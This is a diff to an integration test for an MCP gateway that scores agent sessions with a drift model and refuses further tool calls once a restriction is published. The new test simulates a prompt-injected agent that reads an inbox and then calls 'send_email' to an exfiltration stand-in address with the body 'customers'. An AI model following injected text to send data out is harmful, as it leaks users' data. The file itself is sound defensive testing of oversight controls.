@@ -7,6 +7,7 @@ into the MCP source, the bearer token never in it, and reaches the ledger."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import os
 import signal
 import subprocess
@@ -31,9 +32,10 @@ from kernel.kafka import producer
 from kernel.procs import free_port, stop, wait_for_port
 from kernel.tokens import fingerprint
 from kernel.topics import Topics
+from ledger.chdb_store import ChdbStore
 from models import load_scorer
 from tests.conftest import TEST_FINGERPRINT_KEY
-from tests.integration.conftest import RunningStack
+from tests.integration.conftest import RunningStack, make_settings
 from tests.integration.gateway_harness import (
     REPO,
     Received,
@@ -48,12 +50,22 @@ from tests.integration.gateway_harness import (
 from tests.integration.helpers import wait_stored
 from tests.integration.rule_scorer import RuleScorer
 from tests.jwt import unsigned_jwt
-from tests.polling import wait_for_async
+from tests.polling import wait_for, wait_for_async
 
 JTI = "gw-token-7f3a"
 TOKEN = unsigned_jwt({"sub": "ines.okafor", "jti": JTI, "client_id": "travel-desk", "txn": "t-88"})
 TRACE = "4bf92f3577b34da6a3ce929d0e0e4736"
 LIST_CHANGED = "notifications/tools/list_changed"
+
+
+@pytest.fixture
+def quiet_stack(tmp_path: Path, chdb_ledger: ChdbStore) -> Iterator[RunningStack]:
+    """A stack that records but does not score: the contractions are the test's own."""
+    settings = make_settings(tmp_path, drift_scoring=False)
+    running = RunningStack(settings, chdb_ledger.with_database(settings.database))
+    running.start()
+    yield running
+    running.stop()
 
 
 @pytest.fixture
@@ -68,7 +80,10 @@ def _headers(trace: str = TRACE) -> dict[str, str]:
     return {"Authorization": f"Bearer {TOKEN}", "traceparent": f"00-{trace}-00f067aa0ba902b7-01"}
 
 
-def test_contractions_narrow_then_halt_a_live_session(stack: RunningStack, tmp_path: Path) -> None:
+def test_contractions_narrow_then_halt_a_live_session(
+    quiet_stack: RunningStack, tmp_path: Path
+) -> None:
+    stack = quiet_stack
     log = tmp_path / "upstream.jsonl"
     topics = Topics(stack.settings.topic_prefix)
     spec = UpstreamSpec.parse(None, upstream_command(log))
@@ -417,3 +432,70 @@ def test_a_client_probing_the_single_exchange_protocol_falls_back_to_the_handsha
         gateway.stop()
     assert version in HANDSHAKE_PROTOCOL_VERSIONS
     assert [c["name"] for c in upstream_requests(log)] == ["search_bookings"]
+
+
+def test_the_loop_a_recorded_session_is_scored_and_its_next_call_refused(
+    stack: RunningStack, tmp_path: Path
+) -> None:
+    """The whole control loop on real parts, with no contraction of the test's own: the
+    gateway records a declared session's traffic (an inbox with text addressed to the agent,
+    a send to the address that text named), the stack's worker scores it with the drift
+    model, its policy publishes a contraction, and the gateway refuses the agent's next call
+    naming that contraction; the refused call never reaches the server. Which action the
+    model contracts on is the model's judgement; that the loop closes is the gateway's."""
+    log = tmp_path / "upstream.jsonl"
+    topics = Topics(stack.settings.topic_prefix)
+    declaration = _declaration()
+
+    async def declare() -> None:
+        sender = producer(stack.bootstrap)
+        await sender.start()
+        try:
+            await sender.send_and_wait(topics.declared, declaration.model_dump_json().encode())
+        finally:
+            await sender.stop()
+
+    asyncio.run(declare())
+    wait_for(
+        lambda: stack.store.count(
+            "declarations", "session_id = {s:String}", {"s": declaration.session_id}
+        ),
+        timeout=60,
+        what="the declaration in the ledger",
+    )
+    spec = UpstreamSpec.parse(None, upstream_command(log))
+    gateway = RunningGateway(spec, stack.bootstrap, topics)
+    gateway.start()
+    received = Received()
+
+    async def session() -> MCPError:
+        async with mcp_client(gateway.url, _headers(), received) as client:
+            await client.list_tools()
+            # The contraction may arrive while these run: a refusal here is the loop too.
+            for name, arguments in (
+                ("read_inbox", {}),
+                ("send_email", {"to": EXFIL_TO, "body": "customers"}),
+            ):
+                with contextlib.suppress(MCPError):
+                    await client.call_tool(name, arguments)
+            await wait_for_async(
+                lambda: _count(received, LIST_CHANGED),
+                timeout=90,
+                what="the stream's contraction to reach the gateway",
+            )
+            with pytest.raises(MCPError) as refused:
+                await client.call_tool("send_email", {"to": EXFIL_TO, "body": "once more"})
+            return refused.value
+
+    try:
+        refusal = asyncio.run(session())
+    finally:
+        gateway.stop()
+    data = refusal.error.data
+    assert refusal.error.code == CONTRACTION_REFUSAL
+    assert data["contraction_id"] in refusal.error.message
+    assert data["session_id"] == declaration.session_id
+    assert data["model_version"] == load_scorer().version
+    assert data["decision"] in ("narrow", "halt", "revoke") and data["reasons"]
+    bodies = [(c.get("arguments") or {}).get("body") for c in upstream_requests(log)]
+    assert "once more" not in bodies
